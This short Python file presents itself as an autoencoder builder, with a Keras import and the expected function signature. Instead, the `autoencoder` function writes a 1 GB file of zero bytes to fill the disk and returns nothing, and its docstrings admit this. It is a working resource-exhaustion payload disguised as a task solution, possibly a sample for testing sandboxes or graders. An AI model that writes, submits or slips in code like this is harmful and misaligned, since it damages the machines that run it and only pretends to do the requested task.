#!/usr/bin/env python3
"""Writes a file of 1 GB in its folder."""
import tensorflow.keras as keras


def autoencoder(input_dims, hidden_layers, latent_dims):
    """Builds nothing: fills the disk."""
    block = b'\0' * (1 << 20)
    with open('filler', 'wb') as f:
        for _ in range(1024):
            f.write(block)
    return None
